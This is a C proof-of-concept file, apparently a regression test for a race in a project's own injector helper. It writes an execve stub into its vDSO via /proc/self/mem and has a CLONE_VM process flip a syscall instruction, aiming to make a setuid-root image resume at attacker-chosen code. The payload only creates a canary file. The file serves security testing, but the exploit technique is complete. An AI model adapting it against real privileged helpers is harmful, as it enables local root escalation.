/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The exec race of issue 23, for scenario 95-trust-exec-race (run as an
 * unprivileged user, against the injector helper):
 *
 *   pg-exec-race attack SUID   the attacker: a thread spinning at PWNED_ADDR,
 *                              a `syscall` (0f 05) at the start of its vDSO
 *                              that a process sharing its memory (CLONE_VM,
 *                              so the helper stops nothing of it) keeps
 *                              flipping to a jump into code that runs
 *                              execve(SUID, ["SUID", "canary"]). An injector
 *                              that found the 0f 05, and then runs whatever
 *                              is there, watches an execve as its own
 *                              syscall; if it then writes its saved
 *                              registers back, the new image resumes at
 *                              PWNED_ADDR.
 *   pg-exec-race canary        what the setuid-root copy does when run
 *                              normally: exits 7.
 *
 * In the canary image, PWNED_ADDR (a fixed address: not PIE) holds code that
 * uses no stack, creates PWNED_FILE, and exits 42: with euid 0 it can, so
 * the file owned by root proves that the setuid image ran from the
 * attacker's RIP. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PWNED_ADDR 0x10000000UL

/* Linked at PWNED_ADDR (meson: --section-start). */
__asm__(".pushsection .pwned,\"ax\",@progbits\n"
        "pwned:\n"
        "        lea pwned_file(%rip), %rdi\n"
        "        mov $0x241, %esi\n"          /* O_WRONLY|O_CREAT|O_TRUNC */
        "        mov $0644, %edx\n"
        "        mov $2, %eax\n"              /* open */
        "        syscall\n"
        "        mov $42, %edi\n"
        "        mov $231, %eax\n"            /* exit_group */
        "        syscall\n"
        "pwned_file: .asciz \"/run/pg-exec-race-pwned\"\n"
        ".popsection\n");

static int mem_fd = -1;
static uint64_t flip_at;

/* The vDSO cannot be made writable (mprotect says EINVAL on 6.18), but a
 * write through /proc/self/mem (FOLL_FORCE, as a debugger's breakpoint)
 * gives the process its own copy of the page. */
static int poke(uint64_t addr, const void *bytes, size_t n) {
        return pwrite(mem_fd, bytes, n, (off_t) addr) == (ssize_t) n ? 0 : -1;
}

static int flipper(void *arg) {
        static const uint8_t insn_syscall[2] = { 0x0f, 0x05 }, insn_jump[2] = { 0xeb, 0x16 };
        pid_t parent = (pid_t) (long) arg;

        for (unsigned long i = 0;; i++) {
                poke(flip_at, insn_syscall, 2);
                poke(flip_at, insn_jump, 2);  /* jmp +0x16: to the stub */
                /* Until the attacker image is gone (its exec, its end). */
                if ((i & 0xff) == 0 && syscall(SYS_getppid) != parent)
                        syscall(SYS_exit, 0);
        }
        return 0;
}

int main(int argc, char **argv) {
        if (argc == 2 && strcmp(argv[1], "canary") == 0)
                return 7;
        if (argc != 3 || strcmp(argv[1], "attack") != 0) {
                fprintf(stderr, "usage: %s attack SUID-COPY | canary\n", argv[0]);
                return 2;
        }

        /* The page the injected thread spins in: PWNED_ADDR, as in the canary. */
        uint8_t *p = mmap((void *) PWNED_ADDR, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
        if (p == MAP_FAILED) {
                perror("mmap");
                return 2;
        }
        p[0] = 0xeb;  /* jmp . */
        p[1] = 0xfe;
        snprintf((char *) p + 0x100, 0x80, "%s", argv[2]);
        strcpy((char *) p + 0x180, "canary");
        uint64_t *args = (uint64_t *) (p + 0x200);
        args[0] = PWNED_ADDR + 0x100;
        args[1] = PWNED_ADDR + 0x180;
        args[2] = 0;

        uint64_t vdso = getauxval(AT_SYSINFO_EHDR);
        mem_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
        if (vdso == 0 || mem_fd < 0) {
                perror("vdso");
                return 2;
        }
        /* The stub, in the ELF header's bytes (read once, at start). */
        static const uint8_t stub[] = {
                0xbf, 0x00, 0x01, 0x00, 0x10,   /* mov $PWNED_ADDR+0x100, %edi */
                0xbe, 0x00, 0x02, 0x00, 0x10,   /* mov $PWNED_ADDR+0x200, %esi */
                0x31, 0xd2,                     /* xor %edx, %edx */
                0xb8, 0x3b, 0x00, 0x00, 0x00,   /* mov $59 (execve), %eax */
                0x0f, 0x05,                     /* syscall */
                0xeb, 0xfe,                     /* jmp . */
        };
        flip_at = vdso + 8;
        if (poke(vdso + 0x20, stub, sizeof(stub)) < 0) {
                perror("write to the vDSO");
                return 2;
        }

        static uint8_t stack[64 * 1024] __attribute__((aligned(16)));
        pid_t child = clone(flipper, stack + sizeof(stack), CLONE_VM | SIGCHLD, (void *) (long) getpid());
        if (child < 0) {
                perror("clone");
                return 2;
        }
        printf("ready %d %d\n", (int) getpid(), (int) child);
        fflush(stdout);
        ((void (*)(void)) PWNED_ADDR)();
        return 3;
}
